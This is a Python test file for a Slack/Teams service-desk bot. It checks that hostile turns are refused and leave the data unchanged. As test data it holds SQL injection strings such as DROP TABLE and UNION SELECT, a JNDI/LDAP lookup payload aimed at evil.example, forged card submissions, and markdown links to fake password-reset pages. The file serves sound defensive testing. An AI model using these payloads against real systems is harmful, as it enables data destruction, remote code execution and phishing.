"""Hostile turns through both endpoints (a signed Slack DM / click, an authenticated Teams
message / card submit): SQL-looking input, other companies' ticket numbers, agent commands from
customers, manager acknowledgements from non-managers, huge and control-character text, and
mrkdwn / Adaptive Card markdown injection. Each gets a clear answer (a refusal, "not found", or
the menu), never a 5xx, and the business tables are exactly as they were."""

from __future__ import annotations

import json

import pytest

from bot.domain.model import EscalationReason
from tests.hostile.conftest import BUSINESS_TABLES, count, seed_tickets, snapshot
from tests.slack.conftest import LOTTE, SOFIE, block_text
from tests.teams.conftest import ONE_TRANSPORT, card_of, card_text

ONLY_STAFF = "Only service desk staff can change tickets"
ONLY_AGENTS = "Only service desk agents can log time"
ONLY_MANAGERS = "Only service desk managers can acknowledge escalations"
ONLY_DESK = "only the service desk can acknowledge this"  # said to a customer (issue 15)
NOT_FOUND = "I found no ticket"
CONTROL = "".join(chr(c) for c in range(32)) + "\u202e\u200b\ufeff\u0085\u2028\u2029"

# (who, text with {camille}/{lotte} ticket numbers, what the answer must say)
CORPUS = [
    ("customer", "status {camille} closed", ONLY_STAFF),
    ("customer", "assign {camille} sofie.janssens@caresolutions.be", ONLY_STAFF),
    ("customer", "note {lotte} the customer is always right", ONLY_STAFF),
    ("customer", "solution {lotte} 2026-12-01", ONLY_STAFF),
    ("customer", "release {lotte} 2026-12-01", ONLY_STAFF),
    ("customer", "logtime {lotte} 8h teamviewer", ONLY_AGENTS),
    ("customer", "ack {lotte}", ONLY_DESK),
    ("agent", "ack {lotte}", ONLY_MANAGERS),
    ("customer", "status {camille}", NOT_FOUND),
    ("customer", "{camille}", NOT_FOUND),
    ("customer", "escalate {camille}", NOT_FOUND),
    ("customer", "ticket {camille}", NOT_FOUND),
    ("customer", "{camille}' OR '1'='1", NOT_FOUND),
    ("customer", "'; DROP TABLE tickets; --", None),
    ("customer", "1; DELETE FROM dialog_states WHERE 1=1", None),
    ("customer", "status {camille}' UNION SELECT * FROM staff --", NOT_FOUND),
    ("customer", "Robert'); DROP TABLE processed_events;--", None),
    ("customer", "%s%s%s%n {0} {{x}} ${{jndi:ldap://evil.example/a}}", None),
    ("customer", "x" * 30_000, None),
    ("customer", CONTROL + "hello" + CONTROL, None),
    ("customer", "\u0000", None),
]


def _fill(text: str, numbers: dict[str, str]) -> str:
    return text.replace("{camille}", numbers["camille"]).replace("{lotte}", numbers["lotte"])


async def _escalated(both, numbers) -> None:
    await both.store.create_escalation(numbers["lotte"], 1, EscalationReason.FEEDBACK, "too slow",
                                       "lotte.peeters@brasseriedeklok.be", both.desk.now(), outbox=(),
                                       idempotency_key="seed:escalation")


@ONE_TRANSPORT
@pytest.mark.parametrize("index", range(len(CORPUS)))
async def test_slack_hostile_turns_are_refused_and_change_nothing(both, index):
    who, template, expected = CORPUS[index]
    numbers = await seed_tickets(both.desk)
    await _escalated(both, numbers)
    before = await snapshot(both.store, BUSINESS_TABLES)
    # Slack sends &, < and > as entities in message text.
    text = _fill(template, numbers).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    response = await both.slack.dm(text, user=LOTTE if who == "customer" else SOFIE)
    assert response.status == 200
    answer = block_text(both.slack.fake.last_message().json_param("blocks"))
    if expected:
        assert expected in answer, answer
    assert await snapshot(both.store, BUSINESS_TABLES) == before
    assert await count(both.store, "tickets") == 2


@pytest.mark.parametrize("index", range(len(CORPUS)))
async def test_teams_hostile_turns_are_refused_and_change_nothing(both, index):
    who, template, expected = CORPUS[index]
    numbers = await seed_tickets(both.desk)
    await _escalated(both, numbers)
    before = await snapshot(both.store, BUSINESS_TABLES)
    posted = await both.teams.say(_fill(template, numbers), user="29:lotte" if who == "customer" else "29:sofie")
    answer = card_text(card_of(posted))
    if expected:
        assert expected in answer, answer
    assert await snapshot(both.store, BUSINESS_TABLES) == before


@ONE_TRANSPORT
@pytest.mark.parametrize("user,refusal", [(LOTTE, ONLY_DESK), (SOFIE, ONLY_MANAGERS)])
async def test_slack_escalation_ack_button_from_a_non_manager_is_refused(both, user, refusal):
    numbers = await seed_tickets(both.desk)
    await _escalated(both, numbers)
    before = await snapshot(both.store, BUSINESS_TABLES)
    response = await both.slack.block_action("cd.0.escalation", f"ack:{numbers['lotte']}", user=user)
    assert response.status == 200
    assert refusal in block_text(both.slack.fake.last_message().json_param("blocks"))
    assert await snapshot(both.store, BUSINESS_TABLES) == before


@pytest.mark.parametrize("user,refusal", [("29:lotte", ONLY_DESK), ("29:sofie", ONLY_MANAGERS)])
async def test_teams_escalation_ack_submit_from_a_non_manager_is_refused(both, user, refusal):
    numbers = await seed_tickets(both.desk)
    await _escalated(both, numbers)
    before = await snapshot(both.store, BUSINESS_TABLES)
    status, _ = await both.teams.post(both.teams.activity(user, None, value={
        "action": "escalation", "value": f"ack:{numbers['lotte']}"}))
    assert status == 200
    assert refusal in card_text(card_of(both.teams.fake.sent("POST")[-1]))
    assert await snapshot(both.store, BUSINESS_TABLES) == before


@pytest.mark.parametrize("value", [
    {"action": "form:new_ticket", "_confirmed": "1", "kind": "incident", "module": "'; DROP TABLE tickets; --",
     "description": "x", "email": "not-an-email"},
    {"action": "form:logtime", "_confirmed": "1", "ticket": "CS-2026-00001", "duration": "99h", "service": "x"},
    {"action": "form:nonexistent_dialog", "_confirmed": "1"},
    {"action": "cd.0.menu", "value": "new_ticket"},
    {"action": "menu", "value": "drop_tables"},
    {"action": "escalation", "value": "view:CS-2026-00001"},
    {"action": "x" * 5000},
    {"action": "form:new_ticket", "kind": ["a", "b"], "module": {"$ne": None}},
])
async def test_teams_forged_card_submissions_change_nothing(both, value):
    await seed_tickets(both.desk)
    # An invalid form submission may leave the form's dialog open (waiting for a corrected
    # submission): that is the conversation's state, not a change to the desk's data.
    tables = tuple(t for t in BUSINESS_TABLES if t != "dialog_states")
    before = await snapshot(both.store, tables)
    status, _ = await both.teams.post(both.teams.activity("29:lotte", None, value=value))
    assert status == 200
    assert await snapshot(both.store, tables) == before


@pytest.mark.parametrize("action_id,value", [
    ("cd.0.form:new_ticket", "x"),
    ("cd.0.form:logtime", "x"),
    ("cd.0.menu", "'; DROP TABLE tickets; --"),
    ("cd.0.escalation", "view:CS-2026-00001"),
    ("cd.0.escalation", "ack:CS-2099-99999"),
    ("cd.999." + "x" * 200, "y"),
    ("cd.notanumber.menu", "help"),
])
@ONE_TRANSPORT
async def test_slack_forged_clicks_change_nothing(both, action_id, value):
    await seed_tickets(both.desk)
    tables = tuple(t for t in BUSINESS_TABLES if t != "dialog_states")  # see the Teams test above
    before = await snapshot(both.store, tables)
    response = await both.slack.block_action(action_id, value, user=LOTTE)
    assert response.status == 200
    assert await snapshot(both.store, tables) == before


INJECTION_MODULE = "<!channel> <!here> <@U0ADMIN> *bold* <https://evil.example|Login>"
INJECTION_DESCRIPTION = ("[Reset your password](https://evil.example/reset) ![x](https://evil.example/p.png) "
                         "<at>Boss</at> **urgent** the invoice printer fails after the update every time")


@ONE_TRANSPORT
async def test_slack_mrkdwn_injection_is_escaped_and_nothing_is_created(both):
    env = both.slack

    def entities(text: str) -> str:
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

    for text in ("ticket", "1", "1", entities(INJECTION_MODULE), entities(INJECTION_DESCRIPTION),
                 "press print", "restarted", "2"):
        response = await env.dm(text)
        assert response.status == 200
    summary = env.fake.last_message()
    raw = json.dumps(summary.json_param("blocks")) + str(summary.params.get("text"))
    assert "Please check your ticket" in block_text(summary.json_param("blocks"))
    for forbidden in ("<!channel>", "<!here>", "<@U0ADMIN>", "<https://evil.example"):
        assert forbidden not in raw, forbidden
    assert "&lt;!channel&gt;" in raw
    await env.dm("cancel")
    assert await count(both.store, "tickets") == 0


async def test_teams_markdown_injection_is_escaped_and_nothing_is_created(both):
    bot = both.teams
    # ("ticket" alone is the Teams command that opens the form card; this is the guided dialog)
    for text in ("new ticket", "1", "1", INJECTION_MODULE, INJECTION_DESCRIPTION, "press print", "restarted", "2"):
        posted = await bot.say(text)
    card = json.dumps(card_of(posted))
    assert "Please check your ticket" in card_text(card_of(posted))
    assert "[Reset your password](https://evil.example/reset)" not in card
    assert "![x](https://evil.example/p.png)" not in card
    await bot.say("cancel")
    assert await count(both.store, "tickets") == 0
